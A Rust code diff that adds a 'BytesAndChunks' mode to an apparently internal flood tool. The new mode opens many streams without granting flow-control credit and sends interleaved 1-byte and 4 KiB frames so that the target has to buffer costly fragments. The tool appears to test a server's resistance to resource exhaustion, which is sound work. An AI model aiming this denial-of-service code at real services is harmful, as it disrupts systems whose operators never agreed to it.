@@ -20,7 +20,10 @@ const PATIENCE: Duration = Duration::from_millis(10);
 pub async fn flood(attack: Attack, address: SocketAddr, until: Instant) -> Result<Told> {
     let mut told = Told::default();
     let reads = !matches!(attack, Attack::WsPing | Attack::QxPing | Attack::NeverReads);
-    let credit = if attack == Attack::OneByteGrants { 0 } else { WINDOW };
+    let credit = match attack {
+        Attack::OneByteGrants | Attack::BytesAndChunks => 0,
+        _ => WINDOW,
+    };
     while Instant::now() < until {
         let mut raw = match timeout_at(until, Raw::connect(address, reads, credit)).await {
             Ok(Ok(raw)) => raw,
@@ -74,6 +77,7 @@ async fn at_full_speed(attack: Attack, raw: &mut Raw) -> Result<Infallible> {
         }
         Attack::Datagrams => same(raw, |out| varints(out, &[0x31, 1, 7])).await,
         Attack::NeverReads => never_reads(raw).await,
+        Attack::BytesAndChunks => bytes_and_chunks(raw).await,
         _ => unreachable!("it has no connection"),
     }
 }
@@ -159,6 +163,27 @@ async fn never_reads(raw: &mut Raw) -> Result<Infallible> {
                 raw.send(stream_frame(nth * 4 + kind, offset, &data, false)).await?;
             }
         }
+    }
+    raw.flush().await?;
+    std::future::pending().await
+}
+
+/// All the victim grants at first, on each stream of either kind, in the pieces that once cost most to hold: what is
+/// written at the end of a long queue gets a large block, and what follows ends it.
+async fn bytes_and_chunks(raw: &mut Raw) -> Result<Infallible> {
+    const CHUNK: usize = 4 * 1024;
+    let data = [7; MESSAGE];
+    let mut offset = 0;
+    for len in std::iter::repeat_n(MESSAGE, 2).chain([1, CHUNK].into_iter().cycle()) {
+        if offset + len as u64 > WINDOW {
+            break;
+        }
+        for kind in [0, 2] {
+            for nth in 0..100 {
+                raw.send(stream_frame(nth * 4 + kind, offset, &data[..len], false)).await?;
+            }
+        }
+        offset += len as u64;
     }
     raw.flush().await?;
     std::future::pending().await
